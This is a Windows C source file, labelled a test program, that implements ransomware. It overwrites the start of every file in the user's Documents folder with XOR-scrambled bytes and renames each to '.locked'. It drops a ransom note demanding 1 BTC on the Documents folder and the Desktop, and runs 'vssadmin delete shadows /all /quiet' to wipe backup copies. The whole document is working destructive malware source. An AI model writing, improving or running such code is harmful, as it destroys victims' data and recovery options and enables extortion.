/* Windows test program: "encrypts" Documents, renames the files, drops notes, deletes shadows. */
#include <windows.h>
#include <stdio.h>

static void encrypt(const char *path) {
    char locked[MAX_PATH];
    HANDLE h = CreateFileA(path, GENERIC_READ | GENERIC_WRITE, 0, NULL, OPEN_EXISTING, 0, NULL);
    if (h == INVALID_HANDLE_VALUE) return;
    char buf[4096];
    DWORD n = 0, w = 0;
    ReadFile(h, buf, sizeof buf, &n, NULL);
    for (DWORD i = 0; i < n; i++) buf[i] ^= 0x5A;
    SetFilePointer(h, 0, NULL, FILE_BEGIN);
    WriteFile(h, buf, n, &w, NULL);
    CloseHandle(h);
    snprintf(locked, sizeof locked, "%s.locked", path);
    MoveFileA(path, locked);
}

int main(void) {
    char docs[MAX_PATH], pattern[MAX_PATH], path[MAX_PATH], note[MAX_PATH];
    WIN32_FIND_DATAA found;
    GetEnvironmentVariableA("USERPROFILE", docs, sizeof docs);
    strncat(docs, "\\Documents", sizeof docs - strlen(docs) - 1);
    snprintf(pattern, sizeof pattern, "%s\\*", docs);
    HANDLE find = FindFirstFileA(pattern, &found);
    if (find != INVALID_HANDLE_VALUE) {
        do {
            if (found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) continue;
            snprintf(path, sizeof path, "%s\\%s", docs, found.cFileName);
            encrypt(path);
        } while (FindNextFileA(find, &found));
        FindClose(find);
    }
    /* The note goes where the victim will look: beside the files and on the desktop. */
    char desktop[MAX_PATH];
    GetEnvironmentVariableA("USERPROFILE", desktop, sizeof desktop);
    strncat(desktop, "\\Desktop", sizeof desktop - strlen(desktop) - 1);
    const char *folders[] = {docs, desktop};
    const char *text = "Your files are encrypted. Pay 1 BTC to get them back.\r\n";
    for (int i = 0; i < 2; i++) {
        snprintf(note, sizeof note, "%s\\README_DECRYPT.txt", folders[i]);
        HANDLE h = CreateFileA(note, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
        DWORD w;
        WriteFile(h, text, (DWORD)strlen(text), &w, NULL);
        CloseHandle(h);
    }
    STARTUPINFOA si = {sizeof si};
    PROCESS_INFORMATION pi;
    char cmd[] = "cmd.exe /c vssadmin delete shadows /all /quiet";
    if (CreateProcessA(NULL, cmd, NULL, NULL, FALSE, 0, NULL, NULL, &si, &pi)) {
        WaitForSingleObject(pi.hProcess, 20000);
        CloseHandle(pi.hProcess);
        CloseHandle(pi.hThread);
    }
    return 0;
}
